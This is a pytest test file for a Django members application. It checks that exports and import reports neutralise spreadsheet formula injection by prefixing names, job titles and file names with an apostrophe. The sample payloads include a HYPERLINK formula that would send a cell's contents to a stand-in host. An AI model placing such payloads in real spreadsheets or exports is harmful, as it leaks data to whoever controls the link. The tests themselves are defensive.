"""Formula injection (issue 17) in the members' files: the members export and the import
report (console download and ``laurel import-members --report``). Names a spreadsheet would
run come back as text starting with ``'``; no cell is a formula; row numbers stay numbers."""

import csv
import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from laurel.members.models import MemberImport
from tests.conftest import make_member, valid_id_card

INJECTIONS = ['=HYPERLINK("http://x?d="&C2,"x")', "+1+1", "-2+3", "@SUM(A1)"]


def sheets_of(data: bytes) -> dict[str, list[list]]:
    workbook = load_workbook(io.BytesIO(data))
    return {sheet.title: [list(row) for row in sheet.iter_rows()] for sheet in workbook}


def assert_no_formula(cells) -> None:
    assert all(cell.data_type != "f" for row in cells for cell in row)


def test_the_members_export_neutralises_names_and_job_titles(world, client_as):
    for n, text in enumerate(INJECTIONS, start=1):
        make_member(world.grassroots, n, name=text, job_title=INJECTIONS[n % 4])

    response = client_as("unit_admin").get(reverse("members:member_export"))

    [cells] = sheets_of(response.content).values()
    assert_no_formula(cells)
    names = [row[0].value for row in cells[1:]]
    titles = [row[7].value for row in cells[1:]]
    assert sorted(names) == sorted("'" + text for text in INJECTIONS)
    assert sorted(titles) == sorted("'" + text for text in INJECTIONS)
    assert all(row[0].data_type == "s" for row in cells[1:])


def roster(rows) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["姓名", "身份证号", "单位"], *rows])
    return buffer.getvalue().encode("utf-8")


# names on rows refused for their ID number: the report repeats the names
BAD_ROWS = [[text, "123", "cq/yc/jg"] for text in INJECTIONS]


def assert_report_is_safe(data: bytes, source_name: str) -> None:
    sheets = sheets_of(data)
    rejected, summary = sheets.values()
    assert_no_formula(rejected)
    assert_no_formula(summary)
    body = rejected[1:]
    assert [row[0].value for row in body] == [2, 3, 4, 5]  # row numbers: numbers
    assert all(row[0].data_type == "n" for row in body)
    labels = [row[1].value for row in body]
    for text, label in zip(INJECTIONS, labels, strict=True):
        assert label.startswith("'" + text)
    assert summary[0][1].value == "'" + source_name
    assert [row[1].value for row in summary[2:]] == [0, 0, 0, 4]  # the counts: numbers


def test_the_console_import_report_neutralises_names_and_the_file_name(world, client_as):
    client = client_as("unit_admin")
    upload = SimpleUploadedFile("=1+1.csv", roster(BAD_ROWS))
    client.post(reverse("members:member_import"), {"file": upload})
    imported = MemberImport.objects.get()

    report = client.get(reverse("members:member_import_report", args=[imported.pk]))

    assert_report_is_safe(report.content, "=1+1.csv")


def test_the_command_report_neutralises_names(world, tmp_path, capsys):
    path = tmp_path / "-roster.csv"
    path.write_bytes(roster([*BAD_ROWS, ["好人", valid_id_card(9), "cq/yc/jg"]]))
    report = tmp_path / "report.xlsx"

    call_command("import-members", str(path), "--dry-run", "--report", str(report))

    assert capsys.readouterr().out == "imported 1, updated 0, unchanged 0, rejected 4\n"
    sheets = sheets_of(report.read_bytes())
    rejected = next(iter(sheets.values()))
    assert_no_formula(rejected)
    labels = [row[1].value for row in rejected[1:]]
    for text, label in zip(INJECTIONS, labels, strict=True):
        assert label.startswith("'" + text)
    summary = list(sheets.values())[1]
    assert summary[0][1].value == "'-roster.csv"
